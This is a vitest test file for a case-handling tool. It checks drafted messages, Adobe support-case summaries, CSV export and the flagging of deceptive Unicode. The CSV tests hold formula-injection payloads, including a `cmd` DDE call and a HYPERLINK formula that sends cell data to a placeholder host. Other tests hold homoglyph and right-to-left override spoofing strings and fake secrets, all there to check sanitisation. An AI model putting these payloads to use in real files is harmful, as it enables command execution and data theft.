import { readFileSync } from 'node:fs'
import { beforeAll, describe, expect, it } from 'vitest'
import { setAnswer } from '../../../src/domain/case/address.ts'
import { type Answers, emptyRow } from '../../../src/domain/case/answers.ts'
import type { CaseFile } from '../../../src/domain/case/caseFile.ts'
import { readCaseFile } from '../../../src/domain/case/readCaseFile.ts'
import { interview } from '../../../src/domain/interview/interview.ts'
import { isList } from '../../../src/domain/interview/question.ts'
import { REASONS } from '../../../src/domain/reply/reply.ts'
import { reportOfFile } from '../../../src/domain/report/report.ts'
import { buildSheet } from '../../../src/domain/report/sheet.ts'
import { CSV_STYLES, csvFile } from '../../../src/exchange/inbox/csv.ts'
import {
  briefForColleagues,
  questionToPartner,
  TEXT_LIMITS,
  textForCustomer,
} from '../../../src/exchange/managerTexts.ts'
import { isForSupport, SUPPORT_LIMIT, supportCase } from '../../../src/exchange/supportCase.ts'
import { createWords } from '../../../src/i18n/i18n.ts'
import type { Words } from '../../../src/i18n/useWords.ts'
import { wordsOf } from '../../../src/i18n/wordsOf.ts'
import { oddPieces } from '../../../src/ui/RevealedText.tsx'
import { aReply } from '../../support/aReply.ts'

const read = (name: string): CaseFile => {
  const text = readFileSync(new URL(`../../cases/${name}.json`, import.meta.url), 'utf8')
  const result = readCaseFile(JSON.parse(text))
  if (!result.ok) throw new Error(`${name} is not read`)
  return result.file
}
const NAMES = ['C1-sv', 'C1', 'C4-sv', 'C4', 'V1', 'V2', 'V3', 'V13', 'V14', 'V20', 'V21']
const sheetOf = (file: CaseFile) => buildSheet(reportOfFile(interview, file))
const words = new Map<string, Words>()
beforeAll(async () => {
  for (const language of ['sv', 'en'] as const)
    words.set(language, await wordsOf(await createWords(language), language))
})
const from = (file: CaseFile, language: string) => {
  const spoken = words.get(language)
  if (spoken === undefined) throw new Error(`no words: ${language}`)
  return { words: spoken, file, sheet: sheetOf(file) }
}

/** Every text of the case, in all its answers, replaced by one that can be found again. */
function marked(file: CaseFile): CaseFile {
  let { answers } = file
  const questions = interview.parts.flatMap(({ steps }) =>
    steps.flatMap((step) => (isList(step) ? [] : step.questions)),
  )
  for (const { path, kind } of questions)
    if (['text', 'longText', 'person'].includes(kind)) answers = setAnswer(answers, path, `MARK(${path})`)
  const rows = <T extends object>(list: string, all: readonly T[]): T[] =>
    all.map((row) => ({
      ...row,
      ...Object.fromEntries(
        interview.parts
          .flatMap(({ steps }) => steps)
          .filter((step) => isList(step))
          .filter(({ path }) => path === list)
          .flatMap((step) => step.page.questions)
          .filter(({ kind }) => ['text', 'longText', 'person'].includes(kind))
          .map(({ path }) => [path.split('.').at(-1) ?? '', `MARK(${path})`]),
      ),
    }))
  return {
    ...file,
    answers: {
      ...answers,
      scope: { ...answers.scope, deliverables: rows('scope.deliverables', answers.scope.deliverables) },
      partner: { ...answers.partner, log: rows('partner.log', answers.partner.log) },
      examples: { ...answers.examples, items: rows('examples.items', answers.examples.items) },
    },
  }
}

describe('the texts of an account manager', () => {
  it.each(NAMES.flatMap((name) => ['sv', 'en'].map((language) => ({ name, language }))))(
    '$name in $language: within their lengths, without keys or gaps',
    ({ name, language }) => {
      const file = read(name)
      const reply = aReply({ id: file.caseId }, { verdict: 'needMore', reason: 'scope', nextWordBy: '2026-12-04' })
      const given = from(file, language)
      const brief = briefForColleagues(given, reply)
      const partner = questionToPartner(given, '2026-12-02')
      const customer = textForCustomer(given, reply, 'reply.pdf')
      const support = supportCase(given)
      expect(support.length).toBeLessThanOrEqual(SUPPORT_LIMIT)
      expect(brief.split('\n')).toHaveLength(5)
      expect(brief.length).toBeLessThanOrEqual(TEXT_LIMITS.brief)
      expect(partner.length).toBeLessThanOrEqual(TEXT_LIMITS.partner)
      expect(customer.length).toBeLessThanOrEqual(TEXT_LIMITS.reply)
      for (const text of [brief, partner, customer, support])
        expect(text).not.toMatch(/\{\{|\}\}|reply:|undefined|null|\[object|\b[a-z]+\.[a-z]+\.[a-z]+\b/)
    },
  )

  it('say nothing to the partner but what was agreed and what has happened', () => {
    for (const name of ['C1', 'C4', 'V13']) {
      const file = marked(read(name))
      const text = questionToPartner(from(file, 'en'), '2026-12-02')
      const named = new Set([...text.matchAll(/MARK\(([^)]*)\)/g)].map(([, path]) => path))
      const may = new Set([
        'about.company',
        // Whom it greets, and the project that the partner works in.
        'partner.log.*.person',
        'about.partnerCompany',
        'about.adobeProject',
        'scope.deliverables.*.title',
        'scope.deliverables.*.reference',
        'examples.items.*.title',
        'examples.items.*.actual',
      ])
      expect([...named].filter((path) => !may.has(path ?? ''))).toEqual([])
      expect(named.has('examples.items.*.title')).toBe(true)
    }
  })

  it('ask about nothing that the customer says was never agreed as if it had been', () => {
    const file = read('C1')
    const deliverables = file.answers.scope.deliverables.map((row, at) =>
      at === 0 ? { ...row, inScope: 'no', moves: [] } : row,
    )
    const answers = { ...file.answers, scope: { ...file.answers.scope, deliverables } } as CaseFile['answers']
    const text = questionToPartner(from({ ...file, answers }, 'en'), '2026-12-02')
    const [first] = file.answers.scope.deliverables
    expect(text).toContain(`- ${first?.title}; not in scope\n`)
  })

  describe('name the message to the partner', () => {
    const file = read('C1')
    const raised = (...said: object[]) => {
      const log = said.map((row, at) => ({ ...emptyRow('partner.log'), id: `row-${at}`, code: at + 1, ...row }))
      const answers = { ...file.answers, partner: { ...file.answers.partner, log } } as CaseFile['answers']
      const text = questionToPartner(from({ ...file, answers }, 'en'), '2026-12-02')
      return /raised this with you on (.*) and have not seen an answer/.exec(text)?.[1] ?? null
    }
    const asked = { from: 'merchant', concernStated: 'yes' } as const

    it('that is unanswered now, not the first ever', () => {
      const answered = { date: '2026-10-05', from: 'partner', answer: 'unclear' }
      const again = { date: '2026-10-12', ...asked }
      expect(raised({ date: '2026-10-01', ...asked }, answered, again)).toBe('12 October 2026')
    })

    it('by which all of it had been raised, and none while they may still answer part of it', () => {
      const about = (code: number) => ({ ...asked, about: [file.answers.scope.deliverables[code]?.id] })
      const first = { date: '2026-10-01', ...about(0) }
      expect(raised(first, { date: '2026-10-12', ...about(1) })).toBe('12 October 2026')
      expect(raised({ date: '2026-10-12', ...about(0) }, { date: '2026-10-01', ...about(1) })).toBe('12 October 2026')
      expect(raised(first, { date: '2026-11-23', ...about(1) })).toBeNull()
    })
  })

  it('carry the IDs that are given, and say nothing where none are; the partner is not told the contract', () => {
    const file = read('C1')
    const about = { ...file.answers.about, customerNumber: '10442', adobeProject: 'prj-7' }
    const withIds = from({ ...file, answers: { ...file.answers, about } }, 'en')
    const reply = aReply({ id: file.caseId }, { verdict: 'takeOn' })
    expect(textForCustomer(withIds, reply, null)).toContain('Reference: Adobe contract number 10442, project ID prj-7')
    expect(briefForColleagues(withIds, reply)).toContain('AB (Adobe contract number 10442, project ID prj-7) / ')
    expect(questionToPartner(withIds, '2026-12-02')).toContain('Reference: project ID prj-7')
    expect(questionToPartner(withIds, '2026-12-02')).not.toContain('10442')
    const without = from(file, 'en')
    for (const text of [
      textForCustomer(without, reply, null),
      briefForColleagues(without, reply),
      questionToPartner(without, '2026-12-02'),
    ])
      expect(text).not.toMatch(/Reference|contract number|project ID|\(\)/)
  })

  it('give colleagues the contact and the day that the customer named, in five lines however much was written', () => {
    const file = read('C1')
    const long = 'ord '.repeat(400)
    const about = {
      ...file.answers.about,
      ...{ company: long, partnerCompany: long, customerNumber: long, adobeProject: long },
      ...{ name: 'Karin Holm', email: 'karin@nordfjall.example', phone: '+46 70 123 45 67' },
    }
    const request = { ...file.answers.request, summary: long, ask: long, by: '2026-12-01' }
    const brief = briefForColleagues(
      from({ ...file, answers: { ...file.answers, about, request } }, 'sv'),
      aReply({ id: file.caseId }, { verdict: 'needMore', nextWordBy: '2026-12-04' }),
    )
    expect(brief.split('\n')).toHaveLength(5)
    expect(brief.length).toBeLessThanOrEqual(TEXT_LIMITS.brief)
    for (const said of ['Karin Holm, karin@nordfjall.example, +46 70 123 45 67', 'senast 1 december 2026'])
      expect(brief).toContain(said)
  })

  it('give colleagues the English of the customer where they read English, and one sentence after the other', () => {
    const file = read('C1-sv')
    const english = { summaryEnglish: 'Orders do not arrive', askEnglish: 'A meeting this week' }
    const answers = {
      ...file.answers,
      about: { ...file.answers.about, name: 'Karin Holm' },
      request: { ...file.answers.request, ...english },
    }
    const inLanguage = (language: string) =>
      briefForColleagues(from({ ...file, answers }, language), aReply({ id: file.caseId }))
    expect(inLanguage('en')).toContain('Orders do not arrive')
    expect(inLanguage('en')).toContain('A meeting this week')
    expect(inLanguage('en')).toContain('Next: not decided yet. Customer contact: Karin Holm')
    expect(inLanguage('sv')).not.toContain('Orders do not arrive')
  })

  it('greet whom the case names at the partner, else the company', () => {
    const greeting = (
      people: readonly { name: string; role: string }[] | null,
      person: string | null,
      by = 'partner',
    ) => {
      const file = read('C1')
      const about = { ...file.answers.about, partnerPeople: people === null ? null : [...people] }
      const log = file.answers.partner.log.map((row) => ({ ...row, person, from: by === 'other' ? 'other' : row.from }))
      const partner = { ...file.answers.partner, log: log as typeof file.answers.partner.log }
      const text = questionToPartner(
        from({ ...file, answers: { ...file.answers, about, partner } }, 'en'),
        '2026-12-02',
      )
      return text.split('\n')[0]
    }
    expect(greeting([{ name: 'Anna Berg', role: 'Project lead' }], 'Bo Ek')).toBe('Hello Anna Berg,')
    expect(greeting([{ name: ' ', role: 'Project lead' }], 'Bo Ek')).toBe('Hello Bo Ek,')
    expect(greeting(null, 'Bo Ek', 'other')).toBe('Hello Kvistbro Digital AB,')
    expect(greeting(null, 'bo@kvistbro.example')).toBe('Hello Kvistbro Digital AB,')
    expect(greeting(null, null)).toBe('Hello Kvistbro Digital AB,')
  })

  it('keep from the partner what looks like a secret, a person’s number or an address', () => {
    for (const secret of [
      'password: hunter22',
      'Anna, 811228-9874',
      'anna.berg@example.com',
      '4111 1111 1111 1111',
      'Anna, 070-123 45 67',
      '+46 70 123 45 67',
    ]) {
      const file = read('C1')
      const items = file.answers.examples.items.map((row) => ({ ...row, actual: `It failed for ${secret}` }))
      const answers = { ...file.answers, examples: { ...file.answers.examples, items } }
      expect(questionToPartner(from({ ...file, answers }, 'en'), '2026-12-02')).not.toContain(secret)
    }
  })

  it('keep from the partner the names of persons that the case knows, and no order or date', () => {
    const file = read('C1')
    const told = (actual: string) => {
      const items = file.answers.examples.items.map((row) => ({ ...row, actual }))
      const about = { ...file.answers.about, name: 'Karin Holm' }
      const answers = { ...file.answers, about, examples: { ...file.answers.examples, items } }
      return questionToPartner(from({ ...file, answers }, 'en'), '2026-12-02')
    }
    expect(told('ask karin holm')).not.toContain('karin')
    for (const fact of ['orders 311-322 missing', 'since 2026-11-19 09.00', '12 500 000 rows'])
      expect(told(fact)).toContain(fact)
  })

  it('tell the customer the verdict, the reason, the note, every question and the day', () => {
    const file = read('C1')
    const questions = ['What is missing?', 'Who decided?'].map((text, at) => ({
      id: `q${at}`,
      at: at === 0 ? 'request.ask' : null,
      code: null,
      answerDigest: null,
      text,
    }))
    const reply = aReply(
      { id: file.caseId },
      {
        verdict: 'needMore',
        reason: 'ask',
        note: 'A good case.',
        questions,
        nextWordBy: '2026-12-04',
        from: 'Karin',
      },
    )
    const text = textForCustomer(from(file, 'en'), reply, 'reply.pdf')
    for (const said of [
      'It is unclear what you want Adobe to do.',
      'A good case.',
      'What is missing?',
      'Who decided?',
      '4 December 2026',
      'reply.pdf',
      'Karin',
    ])
      expect(text).toContain(said)
  })
})

describe('a case for Adobe’s support', () => {
  const given = (
    about: object,
    items: (rows: Answers['examples']['items']) => Answers['examples']['items'],
    request = {},
  ) => {
    const file = read('C1')
    const { answers } = file
    return from(
      {
        ...file,
        answers: {
          ...answers,
          about: { ...answers.about, ...about },
          examples: { ...answers.examples, items: items(answers.examples.items) },
          request: { ...answers.request, ...request },
        },
      },
      'en',
    )
  }

  it('says what support needs, in the words of the customer', () => {
    const text = supportCase(
      given(
        {
          ...{ customerNumber: '10442', adobeProject: 'prj-7', urgent: 'payments', urgentCase: 'E-100' },
          ...{ name: 'Karin Holm', email: 'karin@nordfjall.example', phone: '+46 70 123 45 67' },
        },
        (rows) =>
          rows.map((row, at) =>
            at === 0
              ? {
                  ...row,
                  concerns: 'adobe_commerce',
                  frequency: '12 of 12',
                  supportCase: 'E-99',
                  period: '09:00-16:30',
                }
              : row,
          ),
        { hardDate: '2026-12-15' },
      ),
    )
    for (const line of [
      'Emergency: Payments are failing',
      'Product and version: Adobe Commerce on cloud infrastructure, 2.4.8-p5',
      'Project ID: prj-7',
      'Adobe contract number: 10442',
      'Fixed deadline: 15 December 2026',
      'Steps to reproduce: not provided',
      'How often: 12 of 12',
      'Support case for this fault: E-99',
      'Existing Adobe support cases: E-100, E-99',
      'Customer: Nordfjäll Friluft AB',
      'Contact: Karin Holm, karin@nordfjall.example',
      'Phone: +46 70 123 45 67',
    ])
      expect(text.split('\n')).toContain(line)
    expect(text).toMatch(/^When: .* 2026, 09:00-16:30 \(time zone not provided\)$/m)
    // The other faults are not the product's.
    expect(text.match(/^Steps/gm)).toHaveLength(1)
    expect(text).not.toContain('Fault 1')
  })

  it('says what is not provided only where support needs it', () => {
    const text = supportCase(given({ deployment: { unknown: true }, version: null }, () => []))
    const lacking = text.split('\n').filter((line) => line.endsWith(': not provided'))
    expect(lacking.map((line) => line.split(':')[0])).toEqual([
      ...['Product and version', 'Project ID', 'Business impact'],
      ...['Steps to reproduce', 'Expected result', 'Actual result', 'When', 'How often', 'Where'],
      ...['Contact', 'Phone'],
    ])
    for (const left of ['Emergency', 'contract', 'Existing', 'Tickets', 'deadline']) expect(text).not.toContain(left)
  })

  it('keeps secrets where they are, takes the English of the customer, and has a length', () => {
    const long = 'nothing arrives in the ERP '.repeat(100)
    const text = supportCase(
      given({}, (rows) => rows.map((row) => ({ ...row, expected: 'password: hunter22', actual: long, where: long })), {
        summary: 'Inget kommer fram',
        summaryEnglish: 'Nothing arrives',
      }),
    )
    expect(text).not.toContain('hunter22')
    expect(text).toContain('Expected result: left out')
    expect(text).toContain('Summary: Nothing arrives')
    expect(text.length).toBeLessThanOrEqual(SUPPORT_LIMIT)
    expect(text).toContain('Fault 3: ')
  })

  it.each([
    ['09:00-16:30 CET', false],
    ['10:00 UTC+1', false],
    ['kl 9', true],
    ['9 am', true],
    ['every Monday', false],
  ])('of %j knows whether the time zone is missing', (period, isMissing) => {
    const text = supportCase(given({}, (rows) => rows.slice(0, 1).map((row) => ({ ...row, period }))))
    expect(text.includes('time zone not provided')).toBe(isMissing)
  })

  it('is called for by the decisions that send it to support', () => {
    const calls = Object.entries(REASONS).flatMap(([verdict, reasons]) =>
      [null, ...reasons].flatMap((reason) => (isForSupport({ verdict, reason }) ? [[verdict, reason]] : [])),
    )
    expect(calls).toEqual([
      ['notOurs', null],
      ['notOurs', 'supportCase'],
      ['urgent', 'shopDown'],
      ['urgent', 'dataAtRisk'],
    ])
    expect(isForSupport({ verdict: null, reason: null })).toBe(false)
  })
})

/** The cells of a table as a spreadsheet reads them (RFC 4180). */
function cellsOf(csv: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"\\r\\n${separator}]*))(${separator}|\\r\\n|$)`, 'gy')
  for (const [, quoted, plain = '', end] of csv.replace('\uFEFF', '').matchAll(cell)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\r\n') rows.push([])
  }
  return rows
}

describe('a table for a spreadsheet', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@x',
    '%x',
    '|x',
    '\t=1',
    ' =1',
    '\u00a0 =1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '\u0000=1',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.invalid/?"&A1;"klicka")',
    '"=1+1',
  ])('takes the formula out of %j, and keeps the text (X-08)', (text) => {
    for (const style of Object.values(CSV_STYLES)) {
      const [[cell = '', next] = []] = cellsOf(csvFile([[text, 'nästa']], style), style.separator)
      // Only what a spreadsheet could take for a formula has an apostrophe before it.
      expect(cell).toBe(text.startsWith('"') ? text : `'${text}`)
      expect(next).toBe('nästa')
    }
  })

  it('quotes what would end a cell, and leaves ordinary text and numbers as they are', () => {
    expect(csvFile([['a"b', 'c;d', 'e\nf', 'Åsa - chef', 1.5, null]], CSV_STYLES.sv)).toBe(
      '\uFEFF"a""b";"c;d";"e\nf";"Åsa - chef";1,5;\r\n',
    )
    expect(csvFile([['a', 1.5]], CSV_STYLES.en)).toBe('\uFEFF"a",1.5\r\n')
  })
})

describe('text that is looked at closely', () => {
  const shown = (text: string) =>
    oddPieces(text)
      .map(({ shown, code }) => (code === null ? shown : `[${shown}${code}]`))
      .join('')

  it.each([
    ['invoice\u202Egpj.exe', 'invoice[U+202E]gpj.exe'],
    ['pay\u200Bpal', 'pay[U+200B]pal'],
    ['anna@аdobe.com', 'anna@[аU+0430]dobe.com'],
    ['https://nordfj\u200Cäll.se', 'https://nordfj[U+200C]äll.se'],
    ['Nοrdfjäll AB', 'N[οU+03BF]rdfjäll AB'],
    ['аdobe.com', '[аU+0430]dobe.com'],
    ['a\u{E0041}b', 'a[U+E0041]b'],
    ['ab\u200Dcd', 'ab[U+200D]cd'],
  ])('shows %j for what it is (I-07)', (text, seen) => expect(shown(text)).toBe(seen))

  it.each(['Åsa Öberg, 40 %', 'Привет, мир', '👩‍💻 kodar', 'سلام', 'naïve – “x” … 12 500 kr', 'Ελλάδα'])(
    'leaves %j alone',
    (text) => expect(shown(text)).toBe(text),
  )
})
